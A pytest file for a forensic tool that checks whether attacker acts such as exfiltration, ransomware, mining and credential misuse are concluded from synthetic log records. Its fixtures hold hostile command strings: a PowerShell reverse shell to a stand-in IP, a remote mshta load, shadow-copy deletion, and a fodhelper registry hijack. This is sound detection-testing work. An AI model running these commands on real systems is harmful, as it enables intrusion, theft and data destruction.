"""Frames on what was packed, sent, read, opened, posed, mined, misused and destroyed: each with a case where it must be
concluded, one with the same prerequisites where another explanation holds, and one without what decides."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path

import pytest
from frame_cases import AUDIT, SYSMON, Records, event, record, said, started

from wigmore.model.protocols import Record

DEFENDER = "Microsoft-Windows-Windows Defender"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
VETO = "C:\\Program Files\\Veeam\\VeeamAgent.exe"
STAGED = "7z.exe a C:\\Users\\Public\\p.7z C:\\Users\\Public\\docs\\*"
MACRO = {"ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"}


def log(*records: Record) -> Records:
    return {"windows.eventlog": records}


def at(minute: int, second: int = 0) -> str:
    return f"2026-03-02T10:{minute:02d}:{second:02d}Z"


def prefetch(path: str) -> Records:
    name = path.rpartition("\\")[2].upper()
    return {"windows.prefetch": [record({"executable": name, "executable_path": path.upper(), "run_count": 1}, at(1))]}


def connection(image: str, address: str, minute: int = 1, **more: object) -> Record:
    return event(
        3, SYSMON, at(minute), Image=image, Initiated=True, DestinationIp=address, DestinationPort=443, User="A", **more
    )


def changed(number: int, reasons: Sequence[str], ending: str = ".k7q9") -> Record:
    return record(
        {"name": f"report{number}.docx{ending}", "reasons": list(reasons), "file_record": number, "usn": number},
        at(number // 10),
    )


def names(domain: str) -> list[Record]:
    letters = "abcdefghijklmnopqrstuvwxyz012345"
    labels = [letters[n:] + letters[:n] for n in range(20)]
    talk = {"protocol": "DNS", "client_address": "10.0.0.5", "server_address": "192.0.2.53", "domain": domain}
    return [
        record({**talk, "name": f"{x}.{domain}", "type": "A", "longest_label": 32, "label_entropy": 4.9}, at(n))
        for n, x in enumerate(labels)
    ]


def upload(host: str, server: str = "198.51.100.7") -> list[Record]:
    ends = {"client_address": "10.0.0.5", "server_address": server, "protocol": "HTTP", "host": host}
    return [record({**ends, "direction": "to the server", "name": "a.zip", "size": 90000, "url": "/u"}, at(3))]


def hijack(minute: int) -> Record:
    key = "HKU\\S-1-5-21-1_Classes\\ms-settings\\shell\\open\\command\\(Default)"
    return event(13, SYSMON, at(minute), TargetObject=key, Details="cmd.exe", Image="C:\\Windows\\reg.exe", User="A")


SIGN_IN = {"Operation": "UserLoggedIn", "UserId": "a@example.com", "UserAgent": "Mozilla/5.0"}
SYSTEM_NAME = "C:\\Users\\Public\\svchost.exe"
TEMPORARY = "C:\\Users\\Public\\agent.exe"
LINE = {"CommandLine": "svchost.exe", "User": "A"}
CONTROL = [connection(TEMPORARY, "198.51.100.7", n) for n in range(25)]
SRUM = {"application": TEMPORARY, "application_name": "agent.exe", "bytes_sent": 5000000, "user_sid": "S-1-5-21-1"}
EXPORT = "mysqldump.exe --all-databases -r C:\\x.sql"
SHELL = "powershell -c $c = New-Object Net.Sockets.TCPClient('198.51.100.7',443); $c.GetStream()"
MINER = "xmrig.exe -o stratum+tcp://pool.example:3333 -u 4" + "8" * 60

# frame: the act; the same prerequisites with another explanation; without what decides
CASES: dict[str, tuple[Records, Records, Records]] = {
    "collected_packed": (
        log(started("robocopy C:\\Users\\a\\Documents C:\\Users\\Public\\docs /E", at=at(1)), started(STAGED, at=at(9))),
        log(*(started(STAGED, at=at(n), ParentImage=VETO) for n in range(5))),
        {"windows.ntfs.usn": [
            record({"name": "p.7z", "reasons": ["FILE_CREATE"], "file_record": 7, "file_sequence": 1}, at(1)),
            record({"name": "p.7z", "reasons": ["FILE_DELETE"], "file_record": 7, "file_sequence": 1}, at(9)),
        ]},
    ),
    "network_exfiltration": (
        {"network.file": upload("drop.example"), "network.dns": names("t.example")},
        {"network.file": upload("update.microsoft.com"), "network.dns": names("sophosxl.net")},
        {"network.conversation": [record({"client_address": "10.0.0.5", "server_address": "198.51.100.7",
                                          "server_port": 443, "payload_up": 9000000, "payload_down": 100}, at(1))]},
    ),
    "records_accessed": (
        log(started(EXPORT)),
        log(started(EXPORT, ParentImage="C:\\Program Files\\SQL\\sqlagent.exe")),
        {"linux.history": [record({"command": "mysqldump --all-databases > /root/x.sql"}, at(1))]},
    ),
    "malicious_file_opened": (
        log(started("powershell -c x", POWERSHELL, at(1), **MACRO), connection(POWERSHELL, "198.51.100.7", 2)),
        log(
            started("powershell -c x", POWERSHELL, at(1), **MACRO),
            connection(POWERSHELL, "198.51.100.7", 2),
            event(1116, DEFENDER, at(1), **{"Threat Name": "Trojan:O97M", "Path": "file:_C:\\a.docm", "Execution ID": "1"}),
        ),
        {"mail.message": [record({"from_address": "a@example.org", "attachment_names": ["bill.exe"], "message_id": "m1",
                                  "attachment_count": 1, "from": "a@example.org", "subject": "bill"}, at(1))]},
    ),
    "system_program_proxy": (
        log(started("mshta.exe http://198.51.100.7/a.hta", "C:\\Windows\\System32\\mshta.exe")),
        log(started("regsvr32 /s C:\\Users\\a\\AppData\\Local\\Temp\\x.dll", "C:\\Windows\\System32\\regsvr32.exe",
                    ParentImage="C:\\Users\\a\\Downloads\\product-setup.exe")),
        {"windows.bits.file": [record({"local_name": "C:\\Users\\Public\\a.exe", "remote_name": "http://198.51.100.7/a.exe",
                                       "bytes_total": 5, "bytes_transferred": 5, "job_id": "j"}, at(1))]},
    ),
    "masquerading": (
        log(event(1, SYSMON, Image=SYSTEM_NAME, Company="Acme", OriginalFileName="agent.exe", **LINE)),
        log(event(1, SYSMON, Image="D:\\Windows.old\\System32\\svchost.exe", Company="Microsoft Corporation",
                  OriginalFileName="svchost.exe", **LINE)),
        prefetch("\\VOLUME{1}\\USERS\\PUBLIC\\SVCHOST.EXE"),
    ),
    "control_server": (
        log(started(SHELL, POWERSHELL, at(1)), connection(POWERSHELL, "198.51.100.7", 1)),
        log(started(SHELL, POWERSHELL, at(1)), connection(POWERSHELL, "10.0.0.7", 1)),
        {**log(*CONTROL), "windows.srum.network_usage": [record(SRUM, at(5))]},
    ),
    "mining": (
        log(started(MINER, "C:\\Users\\a\\xmrig.exe")),
        {**log(started("xmrig.exe --bench=1M", "C:\\Users\\a\\xmrig.exe")), **prefetch("\\V\\USERS\\A\\XMRIG.EXE")},
        prefetch("\\V\\USERS\\A\\XMRIG.EXE"),
    ),
    "credential_misuse": (
        log(hijack(1), started("cmd.exe", at=at(1, 20), ParentImage="C:\\Windows\\System32\\fodhelper.exe")),
        log(
            event(4624, at=at(1), LogonType="9", LogonProcessName="seclogo", SubjectUserName="a", TargetUserName="a"),
            event(4648, at=at(2), SubjectUserName="a", TargetUserName="adm-a", TargetServerName="SRV1",
                  ProcessName="C:\\Windows\\System32\\runas.exe"),
        ),
        log(event(4624, at=at(1), LogonType="9", LogonProcessName="seclogo", SubjectUserName="a", TargetUserName="a")),
    ),
    "ransom_destruction": (
        {"windows.ntfs.usn": [changed(n, ["DATA_OVERWRITE", "RENAME_NEW_NAME"]) for n in range(60)]},
        {"windows.ntfs.usn": [changed(n, ["RENAME_NEW_NAME"]) for n in range(60)]},
        {"file_listing": [record({"kind": "file", "name": "HOW_TO_DECRYPT.txt", "path": "/HOW_TO_DECRYPT.txt", "size": 9})],
         **log(started("vssadmin delete shadows /all /quiet"))},
    ),
    "account_takeover": (
        {"cloud.azure": [record({"userPrincipalName": "a@example.com", "ipAddress": "198.51.100.7",
                                 "riskState": "confirmedCompromised"}, at(1))]},
        {"cloud.microsoft365": [record({**SIGN_IN, "ClientIP": f"198.51.100.{n}"}, at(n)) for n in range(5)]},
        {"mail.message": [record({"from_domain": "accounts.google.com", "from": "no-reply@accounts.google.com",
                                  "subject": "Security alert", "message_id": "m1"}, at(1))]},
    ),
    "traffic_captured": (
        log(started("bettercap.exe -iface eth0 -T 10.0.0.9", "C:\\t\\bettercap.exe")),
        log(started("tshark.exe -i 1 -w C:\\t\\a.pcapng", "C:\\t\\tshark.exe", ParentImage="C:\\Windows\\msdt.exe")),
        prefetch("\\V\\PROGRAM FILES\\WIRESHARK\\WIRESHARK.EXE"),
    ),
}  # fmt: skip


@pytest.mark.parametrize("frame", sorted(CASES))
def test_the_act_is_concluded(frame: str, tmp_path: Path) -> None:
    come_to = said(tmp_path, CASES[frame][0])
    assert come_to.verdict(frame) == "concluded", come_to.verdicts.get(frame) or come_to.observed


@pytest.mark.parametrize("frame", sorted(CASES))
def test_the_same_prerequisites_with_another_explanation_are_not_concluded(frame: str, tmp_path: Path) -> None:
    come_to = said(tmp_path, CASES[frame][1])
    assert come_to.verdict(frame) != "concluded", come_to.verdicts[frame]


@pytest.mark.parametrize("frame", sorted(CASES))
def test_without_what_decides_nothing_is_concluded(frame: str, tmp_path: Path) -> None:
    come_to = said(tmp_path, CASES[frame][2])
    assert come_to.verdict(frame) in ("open", "contested", "not_tested"), (
        come_to.verdicts.get(frame) or come_to.observed
    )


def test_what_protection_held_back_stands_beside_an_opening(tmp_path: Path) -> None:
    come_to = said(tmp_path, CASES["malicious_file_opened"][1])
    verdict = come_to.verdicts["malicious_file_opened"]
    assert verdict["verdict"] == "contested" and "held the file back" in verdict["reasons"][0]
    assert ("other.start_blocked", "malicious_file_opened/blocked", "supports") in come_to.edges


def test_what_speaks_against_a_frame_does_not_raise_it(tmp_path: Path) -> None:
    kept = {"windows.registry.installed_software": [record({"name": "NiceHash Miner", "version": "3"}, at(1))]}
    come_to = said(tmp_path, {**kept, **log(started("mshta.exe http://198.51.100.7/a.hta"))})
    assert come_to.verdict("mining") == "not raised"


def test_standing_alternatives_are_raised_once_and_those_not_tested_are_named(tmp_path: Path) -> None:
    talk = {"protocol": "Mining", "client_address": "10.0.0.5", "server_address": "198.51.100.7", "payload_down": 900}
    come_to = said(tmp_path, {"network.conversation": [record(talk, at(1))]}, type="network_capture", platform="")
    assert len([n for n in come_to.beliefs if n.startswith("standing/")]) == 4 and "standing" not in come_to.verdicts
    row = come_to.verdicts["mining"]
    assert row["verdict"] == "concluded" and len(row["standing"]) == 4
    assert not any(s["tested"] or s["stands"] for s in row["standing"])
    assert row["reasons"] == ["4 of 4 alternatives to every finding could not be tested"]  # which ones is said once
    assert any("Sessions of more than one account" in s["why"] for s in row["standing"])


def test_a_second_account_is_found_beside_a_verdict_and_does_not_overturn_it(tmp_path: Path) -> None:
    sessions = [event(4624, AUDIT, at(n), LogonType="2", TargetUserName=u) for n, u in ((5, "a"), (6, "b"))]
    come_to = said(tmp_path, log(started(MINER), *sessions))
    row = come_to.verdicts["mining"]
    other = next(s for s in row["standing"] if s["title"].startswith("Another user"))
    assert row["verdict"] == "concluded" and other["tested"] and other["phenomena"] and not other["stands"]


@pytest.mark.parametrize("stated", ["2026-03-04T09:00:00+01:00", "2026-03-04T08:00Z", "2026-03-04"])
def test_records_after_the_stated_acquisition_bear_on_handling(tmp_path: Path, stated: str) -> None:
    after = said(tmp_path, log(started(MINER, at="2026-03-05T13:00:00Z")), acquired=stated)
    assert "standing.after_acquisition" in after.observed
    assert after.beliefs["standing/handling_after_seizure"] > 0.1


def test_records_before_the_acquisition_are_none_of_the_handling(tmp_path: Path) -> None:
    before = said(tmp_path, log(started(MINER)), acquired="2026-03-04T09:00:00+01:00")
    assert "standing.after_acquisition" not in before.observed
    assert before.beliefs["standing/handling_after_seizure"] < 0.1
